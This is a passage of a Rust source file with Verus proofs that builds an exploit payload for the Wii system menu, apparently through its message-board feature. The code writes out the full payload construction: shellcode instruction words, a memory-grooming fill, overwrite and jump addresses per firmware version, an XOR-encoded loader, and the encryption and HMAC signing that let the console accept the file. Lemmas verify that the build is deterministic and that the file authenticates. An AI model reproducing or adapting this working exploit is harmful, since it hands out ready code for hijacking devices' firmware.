    SysMenuVars { overwrite_addr: (vars.overwrite_addr + 0x14 - 0x08) as u32, ..vars }
}

/// A buffer of zeroes, as the pipeline first sees it.
pub open spec fn zero_buffer() -> Seq<u8> {
    Seq::new(BUFFER_SIZE as nat, |i: int| 0u8)
}

/// Every byte of the finished payload, as a function of the address bytes,
/// the date and the (already adjusted) profile.
pub open spec fn spec_build_bytes(mac: Seq<u8>, y: int, m: int, d: int, vars: SysMenuVars) -> Seq<
    u8,
> {
    let id = sha1_of(mac + seq![0x75u8, 0x79u8, 0x79u8]);
    let t = spec_cdb_time(y, m, d) as u32;
    let h = spec_attr_header(zero_buffer(), read_be32(id, 0), read_be32(id, 4), t);
    let a = spec_add_stuff(h, vars);
    spec_encrypt_sign(a, id.skip(8))
}

/// The finished artifact: the payload bytes, the delivery path and the file
/// name.
pub struct Payload {
    /// The fixed-size payload buffer.
    pub bin: Vec<u8>,
    /// The delivery path under the target's storage hierarchy.
    pub path: String,
    /// The file name derived from the delivery timestamp.
    pub file_name: String,
}

/// Builds the payload for a hardware address, a delivery date and a
/// firmware version: exactly the dates with year in [2000, 2035] and the
/// versions in the table succeed, and the output bytes, path and file name
/// are each pinned as functions of the three inputs.
pub fn build_payload(mac_address: &MacAddress, date: &Date, sys_ver: &str) -> (r: Result<
    Payload,
    BuildPayloadError,
>)
    requires
        date.wf(),
    ensures
        (r matches Err(e) && e == BuildPayloadError::InvalidYear) <==> !(2000 <= date.year <= 2035),
        (r matches Err(e) && e == BuildPayloadError::InvalidSystemVersion) <==> (2000 <= date.year
            <= 2035 && spec_sysmenu_vars(sys_ver@) is None),
        r is Ok <==> (2000 <= date.year <= 2035 && spec_sysmenu_vars(sys_ver@) is Some),
        r matches Ok(p) ==> ({
            let id = sha1_of(mac_address@ + seq![0x75u8, 0x79u8, 0x79u8]);
            let t = spec_cdb_time(date.year as int, date.month as int, date.day as int) as u32;
            let vars = spec_adjusted(spec_sysmenu_vars(sys_ver@).unwrap());
            &&& p.bin@.len() == BUFFER_SIZE
            &&& p.bin@ == spec_build_bytes(
                mac_address@,
                date.year as int,
                date.month as int,
                date.day as int,
                vars,
            )
            &&& p.path@ == spec_path(
                read_be32(id, 0),
                read_be32(id, 4),
                date.year as int,
                date.month as int,
                date.day as int,
            )
            &&& p.file_name@ == spec_file_name(t)
        }),
{
    if date.year < 2000 || date.year > 2035 {
        return Err(BuildPayloadError::InvalidYear);
    }
    let cdb_time = crate::date::cdb_time_from_date(date);

    let vars = match sysmenu_vars(sys_ver) {
        Some(v) => v,
        None => {
            return Err(BuildPayloadError::InvalidSystemVersion);
        },
    };
    let mut vars = vars;
    assert(vars.overwrite_addr < 0x90000000);
    vars.overwrite_addr = (vars.overwrite_addr + 0x14) - 0x08;
    assert(vars == spec_adjusted(spec_sysmenu_vars(sys_ver@).unwrap()));

    let wii_id = WiiId::from_mac(mac_address);

    // the output file: the message body plus its attribute header
    let mut out = vec![0u8; BUFFER_SIZE];
    assert(out@ =~= zero_buffer());

    add_cdb_attr_header(&mut out, &wii_id, cdb_time);
    add_stuff(&mut out, &vars);
    match encrypt_and_sign(&mut out, &wii_id) {
        Ok(_) => {},
        Err(e) => {
            return Err(e);
        },
    };

    let file_name = build_file_name(cdb_time);
    let path = build_path(wii_id.upper, wii_id.lower, date);

    Ok(Payload { bin: out, path, file_name })
}

/// Determinism of the build: any two payload byte strings that satisfy the
/// build relation for the same address, date and profile are byte-identical.
pub proof fn lemma_build_deterministic(
    mac: Seq<u8>,
    y: int,
    m: int,
    d: int,
    vars: SysMenuVars,
    b1: Seq<u8>,
    b2: Seq<u8>,
)
    requires
        b1 == spec_build_bytes(mac, y, m, d, vars),
        b2 == spec_build_bytes(mac, y, m, d, vars),
    ensures
        b1 == b2,
{
}

/// The first half of the stub words keeps the buffer length.
#[verifier::rlimit(100)]
proof fn lemma_stub_words_a_len(s: Seq<u8>)
    requires
        s.len() == BUFFER_SIZE,
    ensures
        spec_stub_words_a(s).len() == BUFFER_SIZE,
{
    broadcast use crate::buffer::lemma_splice_len;

    reveal(spec_stub_words_a);
}

/// The second half of the stub words keeps the buffer length.
#[verifier::rlimit(100)]
proof fn lemma_stub_words_b_len(s: Seq<u8>, vars: SysMenuVars)
    requires
        s.len() == BUFFER_SIZE,
    ensures
        spec_stub_words_b(s, vars).len() == BUFFER_SIZE,
{
    broadcast use crate::buffer::lemma_splice_len;

    reveal(spec_stub_words_b);
}

/// The stub words stage keeps the buffer length.
proof fn lemma_stub_words_len(s: Seq<u8>, vars: SysMenuVars)
    requires
        s.len() == BUFFER_SIZE,
    ensures
        spec_stub_words(s, vars).len() == BUFFER_SIZE,
{
    lemma_stub_words_a_len(s);
    lemma_stub_words_b_len(spec_stub_words_a(s), vars);
}

/// The shellcode-assembly stage, checksum excluded, keeps the buffer length.
proof fn lemma_precrc_len(s: Seq<u8>, vars: SysMenuVars)
    requires
        s.len() == BUFFER_SIZE,
    ensures
        spec_stuff_precrc(s, vars).len() == BUFFER_SIZE,
{
    broadcast use crate::buffer::lemma_splice_len;

    reveal_strlit("   ");
    assert("   "@.len() == 3);
    let b2 = splice(splice(s, 0x51C, be32(0x148)), 0x520, be32(0x168));
    let b3 = splice(b2, 0x548, spec_u16be_chars("   "@));
    let b4 = spec_groom(b3);
    lemma_stub_words_len(
        splice(
            splice(
                splice(
                    splice(splice(splice(b4, 0x344C, be32(0x80F80001)), 0x3450, be32(0x00010001)),
                    0x3454, be32(vars.overwrite_addr)),
                    0x3458,
                    be32(vars.overwrite_addr),
                ),
                0xD360,
                be32(vars.jump_table_addr),
            ),
            0xD36C,
            be32(vars.jump_addr),
        ),
        vars,
    );
}

/// The key string is exactly 26 bytes long.
proof fn lemma_key_string_len(t: u32)
    ensures
        key_string_bytes(t).len() == 26,
{
    reveal_strlit("_");
    reveal_strlit(".");
    reveal_strlit("PUNE_69");
    reveal_strlit("000");
    reveal_strlit("log");
    lemma_spec_dec_len(t as int, 10);
}

/// Everything written between the checksum and the encryption lies below
/// 0x400, so the checksummed region is untouched: the CRC-32 word stored at
/// 0x540 of the buffer as it stands right before encryption is the CRC-32
/// of that buffer's bytes from 0x400 up to 0x540.
pub proof fn lemma_crc_before_encryption(s: Seq<u8>, vars: SysMenuVars)
    requires
        s.len() == BUFFER_SIZE,
    ensures
        ({
            let pe = pre_encrypt(spec_add_stuff(s, vars));
            pe.subrange(0x540, 0x544) == be32(crc32_of(pe.subrange(0x400, 0x540)))
        }),
{
    broadcast use group_splice_axioms;

    let e = spec_stuff_precrc(s, vars);
    lemma_precrc_len(s, vars);
    let crc = crc32_of(e.subrange(0x400, 0x540));
    let a = spec_add_stuff(s, vars);
    crate::buffer::lemma_splice_subrange_within(e, 0x540, be32(crc));
    crate::buffer::lemma_splice_subrange_outside(e, 0x540, be32(crc), 0x400, 0x540);
    assert(a.subrange(0x540, 0x544) == be32(crc));
    assert(a.subrange(0x400, 0x540) == e.subrange(0x400, 0x540));

    let t = read_be32(a, 0x7C);
    lemma_key_string_len(t);
    let f1 = splice(a, 0x78, be32(a.len() as u32));
    let f2 = splice(f1, 0x80, key_string_bytes(t));
    let f3 = splice(f2, 0x9A, seq![0u8]);
    let pe = pre_encrypt(a);
    crate::buffer::lemma_splice_subrange_outside(a, 0x78, be32(a.len() as u32), 0x400, 0x544);
    crate::buffer::lemma_splice_subrange_outside(f1, 0x80, key_string_bytes(t), 0x400, 0x544);
    crate::buffer::lemma_splice_subrange_outside(f2, 0x9A, seq![0u8], 0x400, 0x544);
    crate::buffer::lemma_splice_subrange_outside(f3, 0xA0, iv_seq(), 0x400, 0x544);
    assert(pe.subrange(0x400, 0x544) == a.subrange(0x400, 0x544));
    assert(pe.subrange(0x540, 0x544) =~= pe.subrange(0x400, 0x544).subrange(0x140, 0x144));
    assert(a.subrange(0x540, 0x544) =~= a.subrange(0x400, 0x544).subrange(0x140, 0x144));
    assert(pe.subrange(0x400, 0x540) =~= pe.subrange(0x400, 0x544).subrange(0, 0x140));
    assert(a.subrange(0x400, 0x540) =~= a.subrange(0x400, 0x544).subrange(0, 0x140));
}

/// The header writer touches nothing between 0x80 and 0x400: the tag
/// region at 0xB0 keeps its old bytes.
proof fn lemma_attr_header_keeps_tag_region(s: Seq<u8>, upper: u32, lower: u32, t: u32)
    requires
        s.len() == BUFFER_SIZE,
    ensures
        spec_attr_header(s, upper, lower, t).subrange(0xB0, 0xC4) == s.subrange(0xB0, 0xC4),
        spec_attr_header(s, upper, lower, t).len() == BUFFER_SIZE,
{
    broadcast use crate::buffer::lemma_splice_len;

    reveal_strlit("CDBFILE\x02");
    reveal_strlit("ripl_board_record\x00");
    reveal_strlit("w9999999900000000@wii.com\x00");
    assert(ascii_bytes("CDBFILE\x02"@).len() == 8);
    assert(ascii_bytes("ripl_board_record\x00"@).len() == 18);
    assert(ascii_bytes("w9999999900000000@wii.com\x00"@).len() == 26);
    let d1 = ascii_bytes("CDBFILE\x02"@);
    let d5 = ascii_bytes("ripl_board_record\x00"@);
    let d12 = ascii_bytes("w9999999900000000@wii.com\x00"@);
    let sent = be64(((t as u64) * TICKS_PER_SECOND) as u64);
    crate::buffer::lemma_splice_subrange_outside(s, 0x000, d1, 0xB0, 0xC4);
    let w1 = splice(s, 0x000, d1);
    crate::buffer::lemma_splice_subrange_outside(w1, 0x008, be32(upper), 0xB0, 0xC4);
    let w2 = splice(w1, 0x008, be32(upper));
    crate::buffer::lemma_splice_subrange_outside(w2, 0x00C, be32(lower), 0xB0, 0xC4);
    let w3 = splice(w2, 0x00C, be32(lower));
    crate::buffer::lemma_splice_subrange_outside(w3, 0x010, seq![0x12u8], 0xB0, 0xC4);
    let w4 = splice(w3, 0x010, seq![0x12u8]);
    crate::buffer::lemma_splice_subrange_outside(w4, 0x014, d5, 0xB0, 0xC4);
    let w5 = splice(w4, 0x014, d5);
    crate::buffer::lemma_splice_subrange_outside(w5, 0x070, be32(1), 0xB0, 0xC4);
    let w6 = splice(w5, 0x070, be32(1));
    crate::buffer::lemma_splice_subrange_outside(w6, 0x074, be32(1), 0xB0, 0xC4);
    let w7 = splice(w6, 0x074, be32(1));
    crate::buffer::lemma_splice_subrange_outside(w7, 0x07C, be32(t), 0xB0, 0xC4);
    let w8 = splice(w7, 0x07C, be32(t));
    crate::buffer::lemma_splice_subrange_outside(w8, 0x400, be32(0x5249_5F35), 0xB0, 0xC4);
    let w9 = splice(w8, 0x400, be32(0x5249_5F35));
    crate::buffer::lemma_splice_subrange_outside(w9, 0x40C, be32(1), 0xB0, 0xC4);
    let w10 = splice(w9, 0x40C, be32(1));
    crate::buffer::lemma_splice_subrange_outside(w10, 0x410, sent, 0xB0, 0xC4);
    let w11 = splice(w10, 0x410, sent);
    crate::buffer::lemma_splice_subrange_outside(w11, 0x418, d12, 0xB0, 0xC4);
    let w12 = splice(w11, 0x418, d12);
    crate::buffer::lemma_splice_subrange_outside(w12, 0x518, be32(0x0002_0001), 0xB0, 0xC4);
}

/// The first half of the stub words lies past 0x400: the attribute header
/// region is kept.
proof fn lemma_stub_words_a_keeps_prefix(s: Seq<u8>)
    requires
        s.len() == BUFFER_SIZE,
    ensures
        spec_stub_words_a(s).subrange(0, 0x400) == s.subrange(0, 0x400),
{
    broadcast use crate::buffer::lemma_splice_len;

    reveal(spec_stub_words_a);
    let base = (0x568 + STRLEN) as int;
    crate::buffer::lemma_splice_subrange_outside(s, base + 0, be32(0x3FA00101), 0, 0x400);
    let t0 = splice(s, base + 0, be32(0x3FA00101));
    crate::buffer::lemma_splice_subrange_outside(t0, base + 4, be32(0x3BBD0101), 0, 0x400);
    let t1 = splice(t0, base + 4, be32(0x3BBD0101));
    crate::buffer::lemma_splice_subrange_outside(t1, base + 8, be32(0x3B800050), 0, 0x400);
    let t2 = splice(t1, base + 8, be32(0x3B800050));
    crate::buffer::lemma_splice_subrange_outside(t2, base + 12, be32(0x3de092ff), 0, 0x400);
    let t3 = splice(t2, base + 12, be32(0x3de092ff));
    crate::buffer::lemma_splice_subrange_outside(t3, base + 16, be32(0x61efffd4), 0, 0x400);
    let t4 = splice(t3, base + 16, be32(0x61efffd4));
    crate::buffer::lemma_splice_subrange_outside(t4, base + 20, be32(0x7DDC7850), 0, 0x400);
    let t5 = splice(t4, base + 20, be32(0x7DDC7850));
    crate::buffer::lemma_splice_subrange_outside(t5, base + 24, be32(0x7CACE02E), 0, 0x400);
    let t6 = splice(t5, base + 24, be32(0x7CACE02E));
    crate::buffer::lemma_splice_subrange_outside(t6, base + 28, be32(0x7CA66278), 0, 0x400);
    let t7 = splice(t6, base + 28, be32(0x7CA66278));
    crate::buffer::lemma_splice_subrange_outside(t7, base + 32, be32(0x7CCEE12E), 0, 0x400);
    let t8 = splice(t7, base + 32, be32(0x7CCEE12E));
    crate::buffer::lemma_splice_subrange_outside(t8, base + 36, be32(0x7C0EE06C), 0, 0x400);
    let t9 = splice(t8, base + 36, be32(0x7C0EE06C));
    crate::buffer::lemma_splice_subrange_outside(t9, base + 40, be32(0x7C0004AC), 0, 0x400);
    let t10 = splice(t9, base + 40, be32(0x7C0004AC));
    crate::buffer::lemma_splice_subrange_outside(t10, base + 44, be32(0x7C0EE7AC), 0, 0x400);
    let t11 = splice(t10, base + 44, be32(0x7C0EE7AC));
    crate::buffer::lemma_splice_subrange_outside(t11, base + 48, be32(0x7C05E800), 0, 0x400);
    let t12 = splice(t11, base + 48, be32(0x7C05E800));
    crate::buffer::lemma_splice_subrange_outside(t12, base + 52, be32(0x3B9C0004), 0, 0x400);
    let t13 = splice(t12, base + 52, be32(0x3B9C0004));
    crate::buffer::lemma_splice_subrange_outside(t13, base + 56, be32(0x40a2ffe0), 0, 0x400);
    let t14 = splice(t13, base + 56, be32(0x40a2ffe0));
    crate::buffer::lemma_splice_subrange_outside(t14, base + 60, be32(0x7C0004AC), 0, 0x400);
    let t15 = splice(t14, base + 60, be32(0x7C0004AC));
}

/// The second half of the stub words lies past 0x400: the attribute header
/// region is kept.
proof fn lemma_stub_words_b_keeps_prefix(s: Seq<u8>, vars: SysMenuVars)
    requires
        s.len() == BUFFER_SIZE,
    ensures
        spec_stub_words_b(s, vars).subrange(0, 0x400) == s.subrange(0, 0x400),
{
    broadcast use crate::buffer::lemma_splice_len;

    reveal(spec_stub_words_b);
    let base = (0x568 + STRLEN) as int;
    let key = vars.jump_addr;
    crate::buffer::lemma_splice_subrange_outside(s, base + 64, be32(0x4C00012C), 0, 0x400);
    let t0 = splice(s, base + 64, be32(0x4C00012C));
    crate::buffer::lemma_splice_subrange_outside(t0, base + 68, be32(0x3D809300), 0, 0x400);
    let t1 = splice(t0, base + 68, be32(0x3D809300));
    crate::buffer::lemma_splice_subrange_outside(t1, base + 72, be32(0x7D8903A6), 0, 0x400);
    let t2 = splice(t1, base + 72, be32(0x7D8903A6));
    crate::buffer::lemma_splice_subrange_outside(t2, base + 76, be32(0x4E800420), 0, 0x400);
    let t3 = splice(t2, base + 76, be32(0x4E800420));
    crate::buffer::lemma_splice_subrange_outside(t3, base + 80, be32(vars.file_struct_version ^ key), 0, 0x400);
    let t4 = splice(t3, base + 80, be32(vars.file_struct_version ^ key));
    crate::buffer::lemma_splice_subrange_outside(t4, base + 84, be32(vars.os_return_to_menu ^ key), 0, 0x400);
    let t5 = splice(t4, base + 84, be32(vars.os_return_to_menu ^ key));
    crate::buffer::lemma_splice_subrange_outside(t5, base + 88, be32(vars.os_stop_audio_system ^ key), 0, 0x400);
    let t6 = splice(t5, base + 88, be32(vars.os_stop_audio_system ^ key));
    crate::buffer::lemma_splice_subrange_outside(t6, base + 92, be32(vars.gx_abort ^ key), 0, 0x400);
    let t7 = splice(t6, base + 92, be32(vars.gx_abort ^ key));
    crate::buffer::lemma_splice_subrange_outside(t7, base + 96, be32(vars.vfsys_open_file_current ^ key), 0, 0x400);
    let t8 = splice(t7, base + 96, be32(vars.vfsys_open_file_current ^ key));
    crate::buffer::lemma_splice_subrange_outside(t8, base + 100, be32(vars.vfsys_read_file ^ key), 0, 0x400);
    let t9 = splice(t8, base + 100, be32(vars.vfsys_read_file ^ key));
    crate::buffer::lemma_splice_subrange_outside(t9, base + 104, be32(vars.os_unregister_state_event ^ key), 0, 0x400);
    let t10 = splice(t9, base + 104, be32(vars.os_unregister_state_event ^ key));
    crate::buffer::lemma_splice_subrange_outside(t10, base + 108, be32(vars.vi_set_black ^ key), 0, 0x400);
    let t11 = splice(t10, base + 108, be32(vars.vi_set_black ^ key));
    crate::buffer::lemma_splice_subrange_outside(t11, base + 112, be32(vars.vi_flush ^ key), 0, 0x400);
    let t12 = splice(t11, base + 112, be32(vars.vi_flush ^ key));
    crate::buffer::lemma_splice_subrange_outside(t12, base + 116, be32(vars.vfpvol_get_volume ^ key), 0, 0x400);
    let t13 = splice(t12, base + 116, be32(vars.vfpvol_get_volume ^ key));
    crate::buffer::lemma_splice_subrange_outside(t13, base + 120, be32(vars.vfpvol_set_current_volume ^ key), 0, 0x400);
    let t14 = splice(t13, base + 120, be32(vars.vfpvol_set_current_volume ^ key));
}

/// The grooming fill lies past 0x400: the attribute header region is kept.
proof fn lemma_groom_keeps_prefix(s: Seq<u8>)
    requires
        s.len() >= 0x400,
    ensures
        spec_groom(s).subrange(0, 0x400) == s.subrange(0, 0x400),
{
    assert(spec_groom(s).subrange(0, 0x400) =~= s.subrange(0, 0x400));
}

/// Everything the shellcode-assembly stage writes lies at or past 0x400:
/// the attribute header region, the tag region at 0xB0 among it, is kept.
proof fn lemma_add_stuff_keeps_prefix(s: Seq<u8>, vars: SysMenuVars)
    requires
        s.len() == BUFFER_SIZE,
    ensures
        spec_add_stuff(s, vars).subrange(0, 0x400) == s.subrange(0, 0x400),
        spec_add_stuff(s, vars).len() == BUFFER_SIZE,
{
    broadcast use crate::buffer::lemma_splice_len;

    reveal_strlit("   ");
    assert("   "@.len() == 3);
    crate::buffer::lemma_splice_subrange_outside(s, 0x51C, be32(0x148), 0, 0x400);
    let b1 = splice(s, 0x51C, be32(0x148));
    crate::buffer::lemma_splice_subrange_outside(b1, 0x520, be32(0x168), 0, 0x400);
    let b2 = splice(b1, 0x520, be32(0x168));
    crate::buffer::lemma_splice_subrange_outside(b2, 0x548, spec_u16be_chars("   "@), 0, 0x400);
    let b3 = splice(b2, 0x548, spec_u16be_chars("   "@));
    lemma_groom_keeps_prefix(b3);
    let b4 = spec_groom(b3);
    crate::buffer::lemma_splice_subrange_outside(b4, 0x344C, be32(0x80F80001), 0, 0x400);
    let b5 = splice(b4, 0x344C, be32(0x80F80001));
    crate::buffer::lemma_splice_subrange_outside(b5, 0x3450, be32(0x00010001), 0, 0x400);
    let b6 = splice(b5, 0x3450, be32(0x00010001));
    crate::buffer::lemma_splice_subrange_outside(b6, 0x3454, be32(vars.overwrite_addr), 0, 0x400);
    let b7 = splice(b6, 0x3454, be32(vars.overwrite_addr));
    crate::buffer::lemma_splice_subrange_outside(b7, 0x3458, be32(vars.overwrite_addr), 0, 0x400);
    let b8 = splice(b7, 0x3458, be32(vars.overwrite_addr));
    crate::buffer::lemma_splice_subrange_outside(b8, 0xD360, be32(vars.jump_table_addr), 0, 0x400);
    let b9 = splice(b8, 0xD360, be32(vars.jump_table_addr));
    crate::buffer::lemma_splice_subrange_outside(b9, 0xD36C, be32(vars.jump_addr), 0, 0x400);
    let b10 = splice(b9, 0xD36C, be32(vars.jump_addr));
    lemma_stub_words_a_keeps_prefix(b10);
    lemma_stub_words_a_len(b10);
    let wa = spec_stub_words_a(b10);
    lemma_stub_words_b_keeps_prefix(wa, vars);
    lemma_stub_words_b_len(wa, vars);
    let wb = spec_stub_words_b(wa, vars);
    let base = (0x568 + STRLEN) as int;
    crate::buffer::lemma_splice_subrange_outside(
        wb,
        base + 124,
        xored_loader(vars.jump_addr),
        0,
        0x400,
    );
    let sl = splice(wb, base + 124, xored_loader(vars.jump_addr));
    crate::buffer::lemma_splice_subrange_outside(sl, base + 916, be32(0x01010101), 0, 0x400);
    let b11 = splice(sl, base + 916, be32(0x01010101));
    crate::buffer::lemma_splice_subrange_outside(b11, 0x528, be32(2), 0, 0x400);
    let e1 = splice(b11, 0x528, be32(2));
    crate::buffer::lemma_splice_subrange_outside(
        e1,
        0x52C,
        be32((BUFFER_SIZE - ENVELOPE_LEN - 0x400) as u32),
        0,
        0x400,
    );
    let e2 = splice(e1, 0x52C, be32((BUFFER_SIZE - ENVELOPE_LEN - 0x400) as u32));
    crate::buffer::lemma_splice_subrange_outside(e2, 0x530, be32(ENVELOPE_LEN as u32), 0, 0x400);
    let e3 = splice(e2, 0x530, be32(ENVELOPE_LEN as u32));
    crate::buffer::lemma_splice_subrange_outside(
        e3,
        (BUFFER_SIZE - ENVELOPE_LEN) as int,
        envelope_seq(),
        0,
        0x400,
    );
    let e4 = splice(e3, (BUFFER_SIZE - ENVELOPE_LEN) as int, envelope_seq());
    crate::buffer::lemma_splice_subrange_outside(
        e4,
        0x540,
        be32(crc32_of(e4.subrange(0x400, 0x540))),
        0,
        0x400,
    );
}

/// In a fresh build the tag region of the buffer handed to the envelope
/// finalizer is still the zero fill, so the finished payload authenticates:
/// zeroing its 20 tag bytes recovers the exact buffer the code was computed
/// over, and the stored tag is that buffer's HMAC-SHA1 under the identity's
/// key tail. The two length premises are the cipher's and the MAC's output
/// lengths, which the trusted wrappers guarantee at every call.
#[verifier::spinoff_prover]
#[verifier::rlimit(100)]
pub proof fn lemma_build_tag_authenticates(mac: Seq<u8>, y: int, m: int, d: int, vars: SysMenuVars)
    requires
        ({
            let id = sha1_of(mac + seq![0x75u8, 0x79u8, 0x79u8]);
            let t = spec_cdb_time(y, m, d) as u32;
            let a = spec_add_stuff(
                spec_attr_header(zero_buffer(), read_be32(id, 0), read_be32(id, 4), t),
                vars,
            );
            &&& aes128_cbc_of(
                zero_key_seq(),
                iv_seq(),
                pre_encrypt(a).subrange(0x400, pre_encrypt(a).len() as int),
            ).len() == BUFFER_SIZE - 0x400
            &&& hmac_sha1_of(id.skip(8), pre_sign(a)).len() == 20
        }),
    ensures
        ({
            let id = sha1_of(mac + seq![0x75u8, 0x79u8, 0x79u8]);
            let bytes = spec_build_bytes(mac, y, m, d, vars);
            let recovered = splice(bytes, 0xB0, Seq::new(20, |i: int| 0u8));
            bytes.subrange(0xB0, 0xC4) == hmac_sha1_of(id.skip(8), recovered)
        }),
{
    let id = sha1_of(mac + seq![0x75u8, 0x79u8, 0x79u8]);
    let t = spec_cdb_time(y, m, d) as u32;
    let h = spec_attr_header(zero_buffer(), read_be32(id, 0), read_be32(id, 4), t);
    lemma_attr_header_keeps_tag_region(zero_buffer(), read_be32(id, 0), read_be32(id, 4), t);
    lemma_add_stuff_keeps_prefix(h, vars);
    let a = spec_add_stuff(h, vars);
    assert forall|j: int| 0xB0 <= j < 0xC4 implies a[j] == 0 by {
        assert(a[j] == a.subrange(0, 0x400)[j]);
        assert(h.subrange(0, 0x400)[j] == h[j]);
        assert(h[j] == h.subrange(0xB0, 0xC4)[j - 0xB0]);
        assert(zero_buffer().subrange(0xB0, 0xC4)[j - 0xB0] == zero_buffer()[j]);
    }
    lemma_hmac_patched_into_ciphertext(a, id.skip(8));
}

/// Zeroing the 20 tag bytes at 0xB0 of the finished buffer recovers exactly
/// the buffer the authentication code was computed over, and the stored tag
/// is the HMAC-SHA1 of that recovered buffer under the given key. The two
/// length premises are the cipher's and the MAC's output lengths, which the
/// trusted wrappers guarantee at every call.
pub proof fn lemma_hmac_patched_into_ciphertext(s: Seq<u8>, mac_key: Seq<u8>)
    requires
        s.len() == BUFFER_SIZE,
        forall|j: int| 0xB0 <= j < 0xC4 ==> s[j] == 0,
        aes128_cbc_of(
            zero_key_seq(),
            iv_seq(),
            pre_encrypt(s).subrange(0x400, pre_encrypt(s).len() as int),
        ).len() == BUFFER_SIZE - 0x400,
        hmac_sha1_of(mac_key, pre_sign(s)).len() == 20,
    ensures
        ({
            let f = spec_encrypt_sign(s, mac_key);
            let recovered = splice(f, 0xB0, Seq::new(20, |i: int| 0u8));
            recovered == pre_sign(s) && f.subrange(0xB0, 0xC4) == hmac_sha1_of(mac_key, recovered)
        }),
{
    broadcast use group_splice_axioms;

    let t = read_be32(s, 0x7C);
    lemma_key_string_len(t);
    let f4 = pre_encrypt(s);
    let f5 = pre_sign(s);
    let tag = hmac_sha1_of(mac_key, f5);
    let f = spec_encrypt_sign(s, mac_key);
    assert(f4.len() == BUFFER_SIZE);
    assert(f5.len() == BUFFER_SIZE);
    crate::buffer::lemma_splice_subrange_within(f5, 0xB0, tag);
    assert(f.subrange(0xB0, 0xC4) == tag);
    // the tag region of the pre-sign buffer is still the zero fill of `s`
    assert(forall|j: int| 0xB0 <= j < 0xC4 ==> f5[j] == s[j]);
    let recovered = splice(f, 0xB0, Seq::new(20, |i: int| 0u8));
    assert(recovered =~= f5);
    assert(tag == hmac_sha1_of(mac_key, recovered));
}

} // verus!
